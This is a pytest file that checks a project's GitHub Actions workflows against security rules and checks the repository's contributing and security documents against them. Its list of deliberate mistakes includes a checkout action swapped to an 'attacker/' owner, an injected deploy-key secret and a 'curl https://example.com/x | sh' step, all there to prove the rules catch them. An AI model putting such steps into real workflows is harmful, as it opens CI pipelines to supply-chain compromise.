"""Every workflow keeps every rule, and each rule notices the mistake that it is there for.

What it does not prove: that GitHub does what its documentation says.
"""

import re

import pytest
import yaml

from snippets.lab.judging.rules import NOISY_SHARE
from tests.setup.projects import load

from .policy import LETS_MOUNT, ROOT, RULES, WORKFLOWS, Workflow, broken, checkout_as_pinned, read

TEXTS = {path.stem: read(path).text for path in WORKFLOWS}
CHECKOUT = checkout_as_pinned()


def test_there_are_the_four_workflows() -> None:
    assert sorted(TEXTS) == ["canary", "check", "gpu", "publish"]


@pytest.mark.parametrize("name", TEXTS)
def test_a_workflow_keeps_every_rule(name: str) -> None:
    assert broken(Workflow(name, TEXTS[name])) == {}


READS = "contents: read # to check the project out"

MISTAKES = [
    ("check", CHECKOUT, CHECKOUT.replace("actions/", "attacker/"), "action_of_github"),
    ("check", READS, "contents: write # to push", "deploys_only"),
    ("check", "    permissions:\n      contents: read # to compare the change with its base\n", "", "deploys_only"),
    ("publish", 'python-version: "3.11"', 'python-version: "3.11"\n          cache: pip', "no_cache"),
    ("publish", CHECKOUT, "actions/cache@0000000000000000000000000000000000000000 # v5.0.0", "no_cache"),
    ("publish", "GH_TOKEN: ${{ github.token }}", "GH_TOKEN: ${{ secrets.DEPLOY_KEY }}", "no_secret"),
    ("gpu", "          path: ${{ runner.temp }}/unchecked # never", "          # never", "unpacked_elsewhere"),
    ("gpu", "path: ${{ runner.temp }}/unchecked # never", "path: . # never", "unpacked_elsewhere"),
    ("gpu", "path: ${{ runner.temp }}/gpu\n", "path: gpu\n", "unpacked_elsewhere"),
    ("gpu", "        if: always()\n", "", "kept_and_required"),
    ("gpu", "-m gpu tests/experiments/test_gpu.py", "-m gpu", "kept_and_required"),
    ("gpu", '          REQUIRE_GPU: "1"', '          REQUIRED: "1"', "kept_and_required"),
    ("check", "name: site-${{ github.run_attempt }}", "name: site", "tried_again"),
    ("gpu", "          overwrite: true", "          # keeps", "tried_again"),
    ("check", "runs-on: ubuntu-24.04", "runs-on: [self-hosted, gpu]", "guarded_gpu"),
    ("check", "run: make site OFFLINE=1", "if: always()\n        run: make site OFFLINE=1", "not_after_a_refusal"),
    ("check", 'cp -R ".cache/elsewhere/$SYSTEM/.cache/." .cache/', "true", "measured_once"),
    *(
        (name, f"{LETS_MOUNT}\n{after}", f"true\n{after}", "small_shm")
        for name, after in (
            ("check", "      - name: Build with what is published\n"),
            ("check", "      - name: Install the libraries"),
            ("check", "      - name: Measure, judge and build\n"),
            ("check", "      - name: Measure, run and build all as there\n"),
            ("publish", "      - name: Install the libraries"),
            ("canary", "      - name: Install the newest versions\n"),
        )
    ),
    ("canary", '  PIP_NO_CACHE_DIR: "1"', '  PIP_NO_CACHE_DIR: "0"', "small_disk"),
    ("gpu", 'env:\n  # torch for CUDA', 'x-env:\n  # torch for CUDA', "small_disk"),
    ("check", "runs-on: macos-15", "runs-on: macos-self-hosted", "guarded_gpu"),
    ("check", "runs-on: macos-15", "runs-on: ${{ matrix.os }}", "guarded_gpu"),
    ("gpu", "  workflow_dispatch:", "  workflow_dispatch:\n  pull_request:", "guarded_gpu"),
    ("gpu", "github.ref == 'refs/heads/main' && ", "", "guarded_gpu"),
    ("gpu", " && github.repository == vars.GPU_REPOSITORY", "", "guarded_gpu"),
    ("gpu", "main' && vars.GPU_RUNNER", "main' || vars.GPU_RUNNER", "guarded_gpu"),
    ("gpu", "    environment: gpu # with a required reviewer\n", "", "guarded_gpu"),
    ("gpu", READS, READS + "\n      id-token: write # to sign", "guarded_gpu"),
    ("publish", "      - name: Deploy\n", f"      - uses: {CHECKOUT}\n      - name: Deploy\n", "deploys_only"),
    ("publish", "      - name: Deploy\n", "      - run: make site\n      - name: Deploy\n", "deploys_only"),
    ("publish", "github.ref == 'refs/heads/main' && ", "", "guarded_publishing"),
    ("publish", "FULL=1 PUBLISH=1", "FULL=1", "guarded_publishing"),
    ("publish", "      name: github-pages\n", "      name: anything\n", "guarded_publishing"),
    ("publish", "          GPU_REPOSITORY: ${{ vars.GPU_REPOSITORY }}", "          # none", "guarded_publishing"),
    ("publish", "name: github-pages-${{ github.run_attempt }}", "name: github-pages", "guarded_publishing"),
    ("publish", "          retention-days: 30", "          # as GitHub keeps it", "guarded_publishing"),
    ("publish", "${{ needs.build.outputs.artifact }}", "github-pages-1", "guarded_publishing"),
    ("check", "run: make site\n", "run: curl https://example.com/x | sh\n", "known_command"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "right", "wrong", "rule"), MISTAKES)
def test_a_mistake_is_caught_by_the_rule_for_it(name: str, right: str, wrong: str, rule: str) -> None:
    assert right in TEXTS[name], "the mistake has to be made somewhere"
    assert rule in broken(Workflow(name, TEXTS[name].replace(right, wrong, 1)))


def test_every_rule_has_a_mistake() -> None:
    assert {rule for *_, rule in MISTAKES} == {rule.__name__ for rule in RULES}


CONTRIBUTING = (ROOT / ".github" / "CONTRIBUTING.md").read_text(encoding="utf-8")
NOT_REQUIRED = CONTRIBUTING.partition("## A system that is not required yet")[2].partition("\n## ")[0]


def test_each_job_of_a_check_is_required_or_named_as_not_required_yet() -> None:
    jobs = Workflow("check", TEXTS["check"]).jobs
    (last,) = (name for name, job in jobs.items() if job["name"] in NOT_REQUIRED and job.get("if") == "always()")
    needed = jobs[last]["needs"]
    assert set(re.findall(r"^- `(\w+)`:", NOT_REQUIRED, re.MULTILINE)) == jobs.keys() - {last, *needed}
    told = load(ROOT / ".ci" / "jobs.py")
    assert {told.NEVER_SKIPPED, *told.ONE_OF} <= {*needed}


SECURITY = (ROOT / ".github" / "SECURITY.md").read_text(encoding="utf-8")
BY_HAND = SECURITY.partition("## Before the first publication")[2]


def set_by_hand() -> set[str]:
    """What workflows and forms take for granted: variables, environments, labels and who publishes."""
    workflows = [read(path) for path in WORKFLOWS]
    variables = {name for each in workflows for name in re.findall(r"\bvars\.(\w+)", each.text)}
    environments = [job["environment"] for each in workflows for job in each.jobs.values() if "environment" in job]
    named = {each if isinstance(each, str) else each["name"] for each in environments}
    forms = [yaml.safe_load(path.read_text(encoding="utf-8")) for path in ROOT.glob(".github/ISSUE_TEMPLATE/*.yml")]
    labels = {label for form in forms for label in form.get("labels", [])}
    scheduled = {each.name for each in workflows if "schedule" in each.triggers}
    return variables | named | labels | scheduled | {"@maintainers"}


@pytest.mark.parametrize("name", sorted(set_by_hand()))
def test_what_is_set_by_hand_is_in_the_list_of_it(name: str) -> None:
    assert f"`{name}`" in BY_HAND


STEPS = re.split(r"^\d+\. ", BY_HAND.partition("\n\nGitHub stops")[0], flags=re.MULTILINE)[1:]
OF_THE_REPOSITORY = re.compile(r"`\.github/\w+`")
WAITS, REQUIRES = "Wait for “All checks”", "“Require status checks to pass”"
ON_GITHUB = re.compile(r"(Settings|Issues|Actions)\s+→ \w+")


@pytest.mark.parametrize("step", STEPS, ids=lambda step: step.partition("\n")[0])
def test_each_step_says_where_it_is_done(step: str) -> None:
    assert ON_GITHUB.search(step) or OF_THE_REPOSITORY.search(step)


@pytest.mark.parametrize(
    "place",
    [
        "Settings → General",
        "Settings → Actions → General",
        "Settings → Pages",
        "Settings → Environments",
        "Settings → Actions → Runner groups",
        "Settings → Actions → Runners",
        "Settings → Secrets and variables → Actions",
        "Settings → Rules → Rulesets",
        "Settings → Advanced Security",
        "Issues → Labels",
        "Actions → publish",
    ],
)
def test_no_place_is_forgotten(place: str) -> None:
    """Where GitHub keeps what a workflow, a form or this document takes for granted."""
    assert place in " ".join(" ".join(STEPS).split())


def test_no_step_is_out_of_order() -> None:
    numbers = [int(number) for number in re.findall(r"^(\d+)\. ", BY_HAND, re.MULTILINE)]
    assert numbers == [*range(1, len(STEPS) + 1)]
    refers = {int(number) for number in re.findall(r"\bstep (\d+)", SECURITY)}
    assert refers <= {*numbers}


@pytest.mark.parametrize("name", [name for name, text in TEXTS.items() if "runs-on: ${{" in text])
def test_a_runner_of_ones_own_takes_jobs_of_its_workflow_alone(name: str) -> None:
    """Its label keeps nobody out: a pull request can name it in any workflow. Its group does, as GitHub alone sees."""
    assert f"`(owner)/(repository)/.github/workflows/{name}.yml@refs/heads/main`" in BY_HAND


def test_the_branch_that_workflows_name_is_the_default_one() -> None:
    named = {branch for text in TEXTS.values() for branch in re.findall(r"refs/heads/(\w+)|branches: \[(\w+)\]", text)}
    assert {"".join(branch) for branch in named} == {"main"} and "its default branch `main`" in BY_HAND


def test_the_check_to_require_is_one_that_runs_in_the_end() -> None:
    (required,) = re.findall(r"“Require status checks to pass”: “([^”]+)”", BY_HAND)
    (last,) = (job for job in Workflow("check", TEXTS["check"]).jobs.values() if job["name"] == required)
    assert last["if"] == "always()", "a check that is skipped would pass"


def test_the_check_is_required_once_it_was_green() -> None:
    """Before, what makes it green can be pushed without a pull request."""
    waits, requires = (next(at for at, step in enumerate(STEPS) if words in step) for words in (WAITS, REQUIRES))
    assert waits < requires and f"(step {waits + 1})" in STEPS[requires].partition(REQUIRES)[2]


@pytest.mark.parametrize("option", ["--url", "--runnergroup", "--labels", "--ephemeral", "--token"])
def test_a_runner_is_registered_for_one_job_with_its_label(option: str) -> None:
    (command,) = re.findall(r"^ +\$ \./config\.sh .*$", BY_HAND, re.MULTILINE)
    assert f" {option} " in f"{command} "


def test_the_artifact_that_a_reader_looks_at_is_called_so() -> None:
    assert "name: site-${{ github.run_attempt }}" in TEXTS["check"] and "the artifact `site-1`" in SECURITY


def test_the_share_of_noise_is_the_one_that_refuses() -> None:
    assert NOISY_SHARE == 0.3 and "more than three in ten claims" in " ".join(BY_HAND.split())


def test_what_is_kept_for_long_needs_a_setting() -> None:
    """That of what is kept the longest; anything else may go earlier."""
    longest = max(int(days) for text in TEXTS.values() for days in re.findall(r"retention-days: (\d+)", text))
    assert f"{longest} days, the most that a public repository can have" in BY_HAND
